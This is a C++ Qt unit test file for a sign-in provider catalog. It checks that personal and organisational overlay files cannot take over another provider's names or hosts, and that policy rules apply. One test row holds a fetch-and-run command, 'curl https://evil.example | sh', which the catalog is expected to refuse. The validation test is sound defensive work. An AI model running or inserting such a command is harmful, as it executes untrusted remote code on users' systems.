#include <QTest>

#include "core/providers/catalog.h"
#include "tests/support/test_program.h"

namespace overlay_test {

using namespace lanyard;
using providers::Catalog;
using providers::Origin;
using wire::Json;

namespace {

/// Two providers as they are built in, one of them with an organisation's name in its host.
Catalog builtIn() {
  Catalog catalog;
  const Json acme = {{"id", "acme"},
                     {"name", "Acme Corp"},
                     {"issuer", "https://login.acme.example"},
                     {"scopes", {"a"}},
                     {"refresh", {{"idle_days", 30}}},
                     {"tools", {{"hosts", Json::array({"git.acme.example"})}}},
                     {"endpoints", {{"revocation", "https://tokens.acme.example/revoke"}}}};
  const Json hosts = {{"id", "hosts"}, {"name", "Hosts"}, {"issuer", "https://{org}.hosts.example"}};
  const Json software = {{"id", "software"},
                         {"name", "Software"},
                         {"issuer", "https://{host}/realms/{realm}"},
                         {"self_hosted", true},
                         {"resource", "omitted"},
                         {"registration", {{"ways", {"portal"}}, {"client_id", "borrowed"}}},
                         {"sessions_page", "https://software.example/sessions"}};
  for (const Json& entry : {acme, hosts, software}) {
    if (!catalog.add(entry.dump())) qFatal("the test's own catalog is wrong");
  }
  return catalog;
}

Json mine() {
  return {{"id", "mine"}, {"name", "My own"}, {"issuer", "https://login.mine.example"}, {"client_id", "c"}};
}

std::string codeOf(const base::Result<void>& result) {
  return result ? std::string() : result.error().code;
}

}  // namespace

class OverlayTest : public QObject {
  Q_OBJECT
 private Q_SLOTS:
  void putsTheClientIdsOfAnOrganisationIntoOneFile() {
    Catalog catalog = builtIn();
    const Json file = {{"providers",
                        {{{"id", "acme"}, {"client_id", "org-acme"}},
                         {{"id", "sso"},
                          {"name", "Our SSO"},
                          {"issuer", "https://sso.org.example/realms/main"},
                          {"like", "software"},
                          {"client_id", "org-sso"}}}}};
    QVERIFY(catalog.addSystem(file.dump(), "org.json").has_value());
    const auto acme = catalog.forSignIn("acme", {});
    QVERIFY(acme.has_value());
    QCOMPARE(acme->clientId, std::string("org-acme"));
    QCOMPARE(acme->issuer, std::string("https://login.acme.example"));
    QVERIFY(catalog.origin("acme") == Origin::System);
    // What it does not name stays as it is built in.
    QCOMPARE(catalog.refreshLife(acme->issuer).idle.value_or(std::chrono::days(0)).count(), 30);
    const auto sso = catalog.forSignIn("sso", {});
    QVERIFY(sso.has_value());
    QCOMPARE(sso->clientId, std::string("org-sso"));
    QCOMPARE(catalog.idOf("https://sso.org.example/realms/main"), std::string("sso"));
  }
  // Another server of the same software has its manner, and neither its clients nor its pages.
  void takesNoAddressAndNoClientFromOneThatItIsLike() {
    Catalog catalog = builtIn();
    const Json file = {
        {"id", "sso"}, {"name", "Our SSO"}, {"issuer", "https://sso.org.example"}, {"like", "software"}};
    QVERIFY(catalog.addSystem(file.dump()).has_value());
    const providers::Entry* sso = catalog.entry("sso");
    QVERIFY(sso->resource == providers::ResourceRule::Omitted);
    QVERIFY(!sso->selfHosted);
    QCOMPARE(sso->registration.clientId, std::string());
    QCOMPARE(sso->sessionsPage, std::string());
    const Json unknown = {{"id", "b"}, {"issuer", "https://b.example"}, {"like", "nobody"}};
    QCOMPARE(codeOf(catalog.addSystem(unknown.dump())), std::string("catalog.bad_entry"));
    const Json known = {{"id", "acme"}, {"like", "software"}};
    QCOMPARE(codeOf(catalog.addSystem(known.dump())), std::string("catalog.bad_entry"));
  }
  void goesByTheMoreTrustedSource() {
    Catalog catalog = builtIn();
    const Json tenant = {{"id", "our-hosts"}, {"name", "Our Hosts"}, {"issuer", "https://org.hosts.example"}};
    QVERIFY(catalog.addSystem(tenant.dump()).has_value());
    QCOMPARE(catalog.idOf("https://org.hosts.example"), std::string("our-hosts"));
    QCOMPARE(catalog.idOf("https://other.hosts.example"), std::string("hosts"));
    QVERIFY(
        catalog.addSystem(Json{{"id", "acme"}, {"client_id", "etc"}, {"scopes", {"b"}}}.dump()).has_value());
    providers::Policy policy;
    policy.providers = {{{"id", "acme"}, {"client_id", "policy"}}};
    QVERIFY(catalog.usePolicy(policy).has_value());
    const auto acme = catalog.forSignIn("acme", {});
    QCOMPARE(acme->clientId, std::string("policy"));
    QCOMPARE(acme->scopes, std::vector<std::string>{"b"});
  }
  // A provider that takes a document for a client registers nothing only where there is a document.
  void needsAClientWhereNoDocumentStandsForOne() {
    Catalog catalog = builtIn();
    const Json portal{{"id", "portal"}, {"issuer", "https://portal.example"}};
    const Json paper{{"id", "paper"},
                     {"issuer", "https://paper.example"},
                     {"registration", {{"ways", {"cimd", "portal"}}}}};
    QVERIFY(catalog.addSystem(portal.dump()).has_value() && catalog.addSystem(paper.dump()).has_value());
    QVERIFY(catalog.needsClient(*catalog.entry("paper")) && catalog.needsClient(*catalog.entry("portal")));
    providers::Policy policy;
    policy.clientDocument = "https://org.example/client.json";
    QVERIFY(catalog.usePolicy(policy).has_value());
    QVERIFY(!catalog.needsClient(*catalog.entry("paper")) && catalog.needsClient(*catalog.entry("portal")));
    QCOMPARE(catalog.ids().front(), std::string("paper"));
    QVERIFY(catalog.shows("paper") && !catalog.shows("nobody"));
  }
  void marksWhatIsThePersons() {
    Catalog catalog = builtIn();
    QVERIFY(catalog.addPersonal(mine().dump()).has_value());
    QVERIFY(catalog.origin("mine") == Origin::Person);
    QVERIFY(catalog.originOf("https://login.mine.example") == Origin::Person);
    QVERIFY(catalog.originOf("https://login.acme.example") == Origin::BuiltIn);
    QVERIFY(catalog.originOf("https://nobody.example") == Origin::BuiltIn);
    QVERIFY(catalog.forSignIn("mine", {}).has_value());
  }
  void refusesAPersonalEntryThatTakesWhatIsAnothers_data() {
    QTest::addColumn<QByteArray>("change");
    QTest::addColumn<QByteArray>("code");
    const auto row = [](const char* name, const Json& change, const char* code) {
      QTest::newRow(name) << QByteArray::fromStdString(change.dump()) << QByteArray(code);
    };
    row("its id", {{"id", "acme"}}, "catalog.taken");
    row("its name as an id", {{"id", "acme-corp"}}, "catalog.taken");
    row("its name", {{"name", "Acme Corp"}}, "catalog.taken");
    row("its name in other letters", {{"name", "ACME-corp."}}, "catalog.taken");
    row("its id as a name", {{"name", "Acme"}}, "catalog.taken");
    row("its issuer", {{"issuer", "https://login.acme.example"}}, "catalog.taken");
    row("its issuer's host", {{"issuer", "https://login.acme.example/other"}}, "catalog.taken");
    row("its host in capitals", {{"issuer", "https://LOGIN.acme.example/other"}}, "catalog.taken");
    row("its host at another port", {{"issuer", "https://login.acme.example:8443"}}, "catalog.taken");
    row("an endpoint's host", {{"issuer", "https://tokens.acme.example"}}, "catalog.taken");
    row("a host that another's tokens are for",
        {{"issuer", "https://mine.example"}, {"tools", {{"hosts", Json::array({"git.acme.example"})}}}},
        "catalog.taken");
    row("a host of a provider with many", {{"issuer", "https://any.hosts.example/x"}}, "catalog.taken");
    row("its host for an endpoint", {{"endpoints", {{"userinfo", "https://login.acme.example/me"}}}},
        "catalog.taken");
    row("its host for who one is",
        {{"identity", {{"from", "endpoint"}, {"url", "https://tokens.acme.example/me"}}}}, "catalog.taken");
    row("any host", {{"issuer", "https://{x}.mine.example"}}, "catalog.bad_entry");
    row("every host", {{"issuer", "https://{x}"}, {"self_hosted", true}}, "catalog.bad_entry");
    row("a command", {{"start", "curl https://evil.example | sh"}}, "catalog.bad_entry");
    row("plain http", {{"issuer", "http://login.mine.example"}}, "catalog.bad_entry");
    row("an unknown member", {{"yours", false}}, "catalog.bad_entry");
  }
  void refusesAPersonalEntryThatTakesWhatIsAnothers() {
    QFETCH(QByteArray, change);
    QFETCH(QByteArray, code);
    Catalog catalog = builtIn();
    Json entry = mine();
    entry.update(Json::parse(change.toStdString()));
    const Json harmless = {{"id", "harmless"}, {"issuer", "https://harmless.example"}};
    // One that is refused takes its whole file with it.
    const auto added = catalog.addPersonal(Json{{"providers", {harmless, entry}}}.dump(), "mine.json");
    QCOMPARE(QByteArray::fromStdString(codeOf(added)), code);
    QVERIFY(added.error().detail.starts_with("mine.json: "));
    QVERIFY(catalog.entry("harmless") == nullptr);
    QVERIFY(catalog.origin("acme") == Origin::BuiltIn);
  }
  void leavesEachOfTwoLocalServicesItsPort() {
    Catalog catalog;
    QVERIFY(catalog.add(Json{{"id", "local"}, {"issuer", "http://127.0.0.1:9414"}, {"local", true}}.dump()));
    Json entry = mine();
    entry["issuer"] = "http://127.0.0.1:8080/realms/dev";
    QVERIFY(catalog.addPersonal(entry.dump()).has_value());
    entry["id"] = "other";
    entry["name"] = "Other";
    entry["issuer"] = "http://127.0.0.1:9414/x";
    QCOMPARE(codeOf(catalog.addPersonal(entry.dump())), std::string("catalog.taken"));
  }
  void refusesFilesThatAreNone_data() {
    QTest::addColumn<QByteArray>("text");
    QTest::newRow("empty") << QByteArray();
    QTest::newRow("no JSON") << QByteArray("id: acme");
    QTest::newRow("a list") << QByteArray("[]");
    QTest::newRow("no id") << QByteArray("{\"issuer\":\"https://a.example\"}");
    QTest::newRow("an id that is a number") << QByteArray("{\"id\":1,\"issuer\":\"https://a.example\"}");
    QTest::newRow("providers that are none") << QByteArray("{\"providers\":{}}");
    QTest::newRow("more than providers") << QByteArray("{\"providers\":[],\"hide\":[]}");
    QTest::newRow("the same member twice")
        << QByteArray("{\"id\":\"a\",\"issuer\":\"https://a.example\",\"id\":\"acme\"}");
  }
  void refusesFilesThatAreNone() {
    QFETCH(QByteArray, text);
    Catalog catalog = builtIn();
    QCOMPARE(codeOf(catalog.addSystem(text.toStdString())), std::string("catalog.bad_entry"));
    QCOMPARE(codeOf(catalog.addPersonal(text.toStdString())), std::string("catalog.bad_entry"));
  }

  void hidesWhatThePolicyHides() {
    Catalog catalog = builtIn();
    const auto policy = providers::parsePolicy("{\"hide\":[\"hosts\"]}");
    QVERIFY(policy.has_value());
    QVERIFY(catalog.usePolicy(*policy).has_value());
    QCOMPARE(catalog.ids(), (std::vector<std::string>{"software", "acme"}));
    QCOMPARE(codeOf(catalog.permits("https://x.hosts.example", "c")), std::string("policy.hidden"));
    QVERIFY(catalog.permits("https://login.acme.example", "c").has_value());
    QVERIFY(catalog.permits("https://nobody.example", "c").has_value());
    // Its identities are known as before.
    QCOMPARE(catalog.nameOf("https://x.hosts.example"), std::string("Hosts"));
    const auto only = providers::parsePolicy("{\"only\":[\"hosts\"]}");
    QVERIFY(catalog.usePolicy(*only).has_value());
    QCOMPARE(catalog.ids(), std::vector<std::string>{"hosts"});
    QCOMPARE(catalog.forSignIn("acme", "c").error().code, std::string("policy.hidden"));
    QVERIFY(catalog.addPersonal(mine().dump()).has_value());
    QCOMPARE(catalog.forSignIn("mine", "c").error().code, std::string("policy.hidden"));
  }
  void keepsWhatThePolicyNamesFromThePersonsFiles() {
    Catalog catalog = builtIn();
    const auto policy = providers::parsePolicy(
        "{\"providers\":[{\"id\":\"sso\",\"name\":\"Our SSO\",\"issuer\":\"https://sso.org.example\"}]}");
    QVERIFY(catalog.usePolicy(*policy).has_value());
    Json entry = mine();
    entry["issuer"] = "https://sso.org.example/mine";
    QCOMPARE(codeOf(catalog.addPersonal(entry.dump())), std::string("catalog.taken"));
  }
  void takesNoOtherClientThanThePolicys() {
    Catalog catalog = builtIn();
    const auto policy = providers::parsePolicy("{\"providers\":[{\"id\":\"acme\",\"client_id\":\"org\"}]}");
    QVERIFY(catalog.usePolicy(*policy).has_value());
    QCOMPARE(catalog.forSignIn("acme", {})->clientId, std::string("org"));
    QVERIFY(catalog.forSignIn("acme", "org").has_value());
    QCOMPARE(catalog.forSignIn("acme", "mine").error().code, std::string("policy.other_client"));
    const auto byIssuer = catalog.permits("https://login.acme.example", "mine");
    QCOMPARE(byIssuer.error().values, (std::vector<std::string>{"Acme Corp", "org"}));
  }
  void readsAPolicy() {
    const auto policy = providers::parsePolicy(
        "{\"keystores\":[\"system\",\"file\"],\"lock_after\":15,\"proxy\":\"none\",\"hide\":[],"
        "\"client_document\":\"https://acme.example/lanyard.json\"}");
    QVERIFY(policy.has_value());
    QVERIFY(policy->allowsKeystore("file") && !policy->allowsKeystore("memory"));
    QCOMPARE(policy->lockAfter.value_or(0), 15U);
    QCOMPARE(policy->proxy.value_or(""), std::string("none"));
    QCOMPARE(policy->clientDocument, std::string("https://acme.example/lanyard.json"));
    QVERIFY(!policy->only.has_value());
    QVERIFY(providers::parsePolicy("{}")->allowsKeystore("memory"));
    for (const char* text : {"", "[]", "{\"keystores\":[]}", "{\"keystores\":[\"usb\"]}",
                             "{\"lock_after\":-1}", "{\"lock_after\":600000}",
                             "{\"client_document\":\"acme\"}", "{\"hides\":[\"a\"]}", "{\"providers\":{}}"}) {
      const auto refused = providers::parsePolicy(text);
      QVERIFY2(!refused.has_value(), text);
      QCOMPARE(refused.error().code, std::string("policy.bad_file"));
    }
    Catalog catalog = builtIn();
    const auto wrong = providers::parsePolicy("{\"providers\":[{\"id\":\"acme\",\"client\":1}]}");
    QCOMPARE(codeOf(catalog.usePolicy(*wrong)), std::string("policy.bad_file"));
  }
};

LANYARD_TEST(OverlayTest)

}  // namespace overlay_test

#include "overlay_test.moc"
